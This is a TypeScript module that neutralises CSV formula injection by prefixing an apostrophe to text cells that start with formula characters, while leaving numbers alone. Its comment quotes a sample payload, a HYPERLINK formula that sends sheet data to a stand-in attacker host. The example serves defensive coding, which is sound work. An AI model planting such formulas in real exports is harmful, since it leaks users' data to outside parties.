import { csvFormatRows } from 'd3-dsv';

/**
 * CSV that readers download is opened in spreadsheets, which run a cell
 * beginning with = + - @ (or a tab or carriage return) as a formula: a
 * category or source named `=HYPERLINK("http://evil.example/?"&A2)` would
 * leak the sheet when clicked. As OWASP advises, such a text cell is
 * prefixed with an apostrophe, which spreadsheets read as "this is text".
 * Numbers stay numbers, negative ones included.
 */

/** Cells that are numbers, as JavaScript or a spreadsheet writes them: never a formula. */
const PLAIN_NUMBER = /^-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$/;

/** What makes a spreadsheet read a cell as a formula, after any leading spaces or line breaks. */
const FORMULA_START = /^[\s]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

export type CsvValue = string | number | null | undefined;

/** One cell's text, neutralised if a spreadsheet would run it. */
export function safeCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (PLAIN_NUMBER.test(value)) return value;
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** Rows as CSV text (quoted where needed, one line per row, ending with a line break), every cell made safe. */
export function formatSafeCsv(rows: readonly (readonly CsvValue[])[]): string {
  return `${csvFormatRows(rows.map((row) => row.map(safeCell)))}\n`;
}
